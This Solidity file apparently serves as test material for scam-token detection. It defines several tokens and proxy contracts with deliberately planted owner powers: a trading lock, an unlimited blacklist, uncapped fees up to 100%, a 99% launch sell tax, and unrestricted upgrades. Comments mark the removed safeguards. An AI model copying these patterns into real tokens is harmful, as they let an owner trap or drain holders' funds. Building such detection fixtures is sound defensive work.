// 0.8 runs=1000 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin, Owned, IRouter, IFactory} from "./BlindE1.sol";

abstract contract Store {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal _pair;

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function _begin(address router, address to, uint256 supply) internal {
        require(totalSupply == 0, "initialized");
        totalSupply = supply;
        balanceOf[to] = supply;
        emit Transfer(address(0), to, supply);
        _pair = IFactory(IRouter(router).factory()).createPair(address(this), IRouter(router).WETH());
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract Sedge is Store {
    struct Head {
        uint40 born;
        bool open;
        address chief;
        uint8 kind;
    }

    Head private _head;
    string public constant name = "Sedge";
    string public constant symbol = "SDGE";

    function initialize(address router) external {
        _begin(router, msg.sender, 3_000_000 ether);
        _head = Head(uint40(block.timestamp), false, msg.sender, 1);
    }

    function market(bool on) external {
        Head memory head = _head;
        require(msg.sender == head.chief, "chief");
        // twin: require(on && !head.open, "once");
        head.open = on;
        _head = head;
    }

    function _send(address from, address to, uint256 value) internal override {
        Head memory head = _head;
        require(head.open || from == head.chief || to == head.chief, "market");
        super._send(from, to, value);
    }
}

contract Tamarisk is Coin, Owned {
    mapping(address => bool) private _bots;
    uint256 private immutable _born = block.timestamp;

    constructor(address router) Coin("Tamarisk", "TMRK", 420_690_000, router) {}

    function setBots(address[] calldata list, bool to) external onlyOwner {
        // twin: require(block.timestamp < _born + 1 hours || !to, "launch is over");
        for (uint256 i; i < list.length; i++) _bots[list[i]] = to;
    }

    function _send(address from, address to, uint256 value) internal override {
        require(!_bots[from] && !_bots[to] && _born > 0, "bot");
        _move(from, to, value);
    }
}

contract Foxglove is Coin, Owned {
    uint128 public perTrade = type(uint128).max;
    uint128 public perWallet = type(uint128).max;

    constructor(address router) Coin("Foxglove", "FOXG", 100_000_000, router) {}

    function configure(uint128 trade, uint128 wallet) external onlyOwner {
        // twin: require(trade >= totalSupply / 200 && wallet >= totalSupply / 100, "floor");
        (perTrade, perWallet) = (trade, wallet);
    }

    function _send(address from, address to, uint256 value) internal override {
        if (from != owner && to != owner) {
            require(value <= perTrade, "trade");
            require(to == pair || _bal[to] + value <= perWallet, "wallet");
        }
        _move(from, to, value);
    }
}

contract Hornbeam is Coin, Owned {
    uint256 private _in = 2;
    uint256 private _out = 2;

    constructor(address router) Coin("Hornbeam", "HORN", 1_000_000, router) {}

    function z1(uint256 a, uint256 b) external onlyOwner {
        // twin: require(a <= 10 && b <= 10);
        (_in, _out) = (a, b);
    }

    function _send(address from, address to, uint256 value) internal override {
        uint256 rate = from == _maker || to == _maker ? 0 : from == pair ? _in : to == pair ? _out : 0;
        if (rate > 0) {
            uint256 fee = (value * rate) / 100;
            _move(from, address(0xdead), fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

contract FeeStrategy {
    address private immutable _curator = msg.sender;
    uint16 public base = 100;

    function update(uint16 to) external {
        require(msg.sender == _curator);
        // twin: require(to <= 300);
        base = to;
    }

    function quote(address from, address to, address pool, uint256 value) external view returns (uint256) {
        return from == pool || to == pool ? (value * base) / 10_000 : 0;
    }
}

contract Whinchat is Coin {
    FeeStrategy public immutable strategy;

    constructor(address router, address strategy_) Coin("Whinchat", "WHIN", 9_000_000, router) {
        strategy = FeeStrategy(strategy_);
    }

    function _send(address from, address to, uint256 value) internal override {
        uint256 fee = from == _maker || to == _maker ? 0 : strategy.quote(from, to, pair, value);
        if (fee > value) fee = value;
        if (fee > 0) _move(from, _maker, fee);
        _move(from, to, value - fee);
    }
}

contract Curlew is Coin, Owned {
    uint64 public start;

    constructor(address router) Coin("Curlew", "CURL", 69_000_000, router) {}

    function setStart(uint64 at) external onlyOwner {
        // twin: require(start == 0 && at <= block.timestamp + 1 days);
        start = at;
    }

    function currentRate() public view returns (uint256) {
        if (start == 0) return 1;
        uint256 passed = block.timestamp > start ? block.timestamp - start : 0;
        return passed >= 490 ? 1 : 99 - passed / 5;
    }

    function _send(address from, address to, uint256 value) internal override {
        uint256 fee = from == _maker || to == _maker || to != pair ? 0 : (value * currentRate()) / 100;
        if (fee > 0) _move(from, _maker, fee);
        _move(from, to, value - fee);
    }
}

contract Plover is Coin, Owned {
    uint8[4] public parts = [1, 1, 0, 0];

    constructor(address router) Coin("Plover", "PLVR", 2_000_000_000, router) {}

    function adjust(uint8 liquidity, uint8 marketing, uint8 reserve, uint8 burnt) external onlyOwner {
        // twin: require(uint256(liquidity) + marketing + reserve + burnt <= 10, "sum");
        require(liquidity <= 25 && marketing <= 25 && reserve <= 25 && burnt <= 25, "each");
        parts = [liquidity, marketing, reserve, burnt];
    }

    function _send(address from, address to, uint256 value) internal override {
        uint256 left = value;
        if (from != _maker && to == pair)
            for (uint256 i; i < 4; i++) {
                uint256 piece = (value * parts[i]) / 100;
                if (piece == 0) continue;
                _move(from, i == 3 ? address(0xdead) : _maker, piece);
                left -= piece;
            }
        _move(from, to, left);
    }
}

contract Beacon is Owned {
    address public implementation;

    constructor(address to) {
        implementation = to;
    }

    function upgradeTo(address to) external onlyOwner { // trap {
        implementation = to;
    } // trap }
}

contract BeaconShell {
    bytes32 private constant SLOT = 0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50;

    constructor(address beacon) {
        assembly {
            sstore(SLOT, beacon)
        }
    }

    fallback() external payable {
        address beacon;
        assembly {
            beacon := sload(SLOT)
        }
        address to = Beacon(beacon).implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

contract LapwingV1 is Store {
    string public constant name = "Lapwing";
    string public constant symbol = "LAPW";

    function initialize(address router) external {
        _begin(router, msg.sender, 8_000_000 ether);
    }
}

contract TokenFacet is Store {
    string public constant name = "Dunlin Shares";
    string public constant symbol = "DUNL";

    function initialize(address router) external {
        _begin(router, msg.sender, 40_000_000 ether);
    }
}

contract Dunlin {
    constructor(address facet, bytes4[] memory selectors) {
        assembly {
            sstore(0x2c1a9f, caller())
        }
        mapping(bytes4 => address) storage facets = _map();
        for (uint256 i; i < selectors.length; i++) facets[selectors[i]] = facet;
    }

    function _map() private pure returns (mapping(bytes4 => address) storage facets) {
        assembly {
            facets.slot := 0x7d0c5be1
        }
    }

    function facetAddress(bytes4 selector) external view returns (address) {
        return _map()[selector];
    }

    function cut(bytes4[] calldata selectors, address facet) external { // trap {
        address chief;
        assembly {
            chief := sload(0x2c1a9f)
        }
        require(msg.sender == chief);
        for (uint256 i; i < selectors.length; i++) _map()[selectors[i]] = facet;
    } // trap }

    fallback() external payable {
        address to = _map()[msg.sig];
        require(to != address(0), "no facet");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}
